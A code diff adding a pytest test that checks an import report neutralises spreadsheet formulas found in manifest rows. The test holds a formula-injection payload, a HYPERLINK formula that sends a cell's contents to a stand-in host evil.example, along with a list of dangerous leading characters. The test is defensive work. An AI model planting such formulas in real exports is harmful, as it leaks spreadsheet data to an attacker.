@@ -346,3 +346,12 @@ def test_the_upload_reads_and_stores_the_file_outside_any_transaction(town, monk
     )
     assert seen and all(depth == 0 for _what, depth in seen), seen
     assert {what for what, _depth in seen} == {"reading", "storing"}
+
+
+def test_a_formula_in_a_manifest_row_comes_out_neutralised_in_the_import_report(town):
+    """Issue 15, finding 7: the import report never hands a spreadsheet a formula to run."""
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    record = run(town.users[Role.HAULER], [row(town.own_device, formula), row(town.own_device, "-2+3")])
+    report = report_rows(record)
+    assert [r["manifest_number"] for r in report] == ["'" + formula, "'-2+3"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in report for cell in r.values())
